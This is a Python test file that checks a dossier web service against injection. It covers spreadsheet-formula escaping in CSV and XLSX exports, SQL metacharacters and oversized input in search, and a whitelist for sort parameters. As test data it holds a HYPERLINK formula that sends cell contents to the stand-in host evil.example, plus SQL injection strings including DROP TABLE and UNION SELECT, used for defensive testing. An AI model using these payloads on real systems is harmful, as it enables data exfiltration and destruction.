"""Injection: SQL metacharacters and huge inputs in the search, spreadsheet formulas in exports,
HTML/JS in what people type (comments, names) rendered in emails."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
import pytest
from system_testkit import Applicant, bearer, hunter_draft, parties

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
FORMULA_STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", FORMULA]


@pytest.fixture(scope="session")
async def formula_drafts(public: httpx.AsyncClient, alice: Applicant) -> list[str]:
    """Drafts whose applicant's first name is a would-be formula (step 2 accepts any name)."""
    ids = []
    for value in FORMULA_STARTS:
        d = (await hunter_draft(public, alice))["dossier"]
        body = parties(alice)
        body["applicant"] = {**body["applicant"], "first_name": value, "last_name": "Injecté"}
        r = await public.put(f"/api/v1/dossiers/{d['id']}/demandeur", json=body,
                             headers=bearer(alice.token, d["version"]))
        assert r.status_code == 200, r.text
        ids.append(d["id"])
    return ids


async def _export(public: httpx.AsyncClient, token: str, fmt: str) -> bytes:
    r = await public.get("/api/v1/search/dossiers/export", params={"format": fmt, "q": "Injecté"},
                         headers=bearer(token))
    assert r.status_code == 200, r.text
    return r.content


async def test_csv_export_never_starts_a_cell_with_a_formula_character(public: httpx.AsyncClient, alice,
                                                                       formula_drafts) -> None:
    rows = list(csv.reader(io.StringIO((await _export(public, alice.token, "csv")).decode("utf-8-sig")),
                           delimiter=";"))
    header, body = rows[0], rows[1:]
    names = [row[header.index("Demandeur")] for row in body]
    assert len(names) >= len(FORMULA_STARTS), names
    for value in FORMULA_STARTS:
        cell = next(n for n in names if n.endswith(value + " Injecté"))
        assert cell[0] not in "=+-@\t\r", cell  # a spreadsheet would evaluate it
        assert cell == "'" + value + " Injecté"  # the text itself is kept, as a literal


async def test_xlsx_export_writes_would_be_formulas_as_text_cells(public: httpx.AsyncClient, alice,
                                                                   formula_drafts) -> None:
    from openpyxl import load_workbook

    content = await _export(public, alice.token, "xlsx")
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheet_xml = next(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, sheet_xml[:2000]  # no formula element at all
    ws = load_workbook(io.BytesIO(content)).active
    rows = list(ws.iter_rows())
    col = [c.value for c in rows[0]].index("Demandeur")
    cells = [r[col] for r in rows[1:]]
    for value in FORMULA_STARTS:
        cell = next(c for c in cells if str(c.value).endswith(" Injecté") and value in str(c.value))
        assert cell.data_type == "s" and cell.value == value + " Injecté", (cell.data_type, cell.value)


@pytest.mark.parametrize("q", ["' OR '1'='1", "'; DROP TABLE dossiers; --", "%", "_", "\\", "%' UNION SELECT 1 --",
                               "\x00", "é" * 5000, "a" * 20_000])
async def test_search_free_text_with_sql_metacharacters_or_huge_input_is_harmless(
        public: httpx.AsyncClient, bob, alice, alice_world, q: str) -> None:
    """Another person's dossiers never come back, nothing answers 500, huge input is a clear 4xx or empty."""
    for path in ("/api/v1/search/dossiers", "/api/v1/search/authorisations"):
        r = await public.get(path, params={"q": q}, headers=bearer(bob.token))
        assert r.status_code in (200, 400, 414, 422, 431), (path, r.status_code, r.text[:300])
        if r.status_code == 200:
            assert alice_world.number not in r.text and alice_world.transmitted["id"] not in r.text
        else:
            assert r.headers["content-type"].startswith("application/problem+json"), r.headers
    r = await public.get("/api/v1/dossiers", headers=bearer(alice.token))
    assert r.status_code == 200  # the table is still there


@pytest.mark.parametrize("sort", ["id; DROP TABLE dossiers", "created_at desc, (select 1)", "-" * 300])
async def test_sort_and_filters_are_whitelisted(public: httpx.AsyncClient, bob, sort: str) -> None:
    r = await public.get("/api/v1/search/dossiers", params={"sort": sort}, headers=bearer(bob.token))
    assert r.status_code == 422 and r.headers["content-type"].startswith("application/problem+json"), r.text[:300]
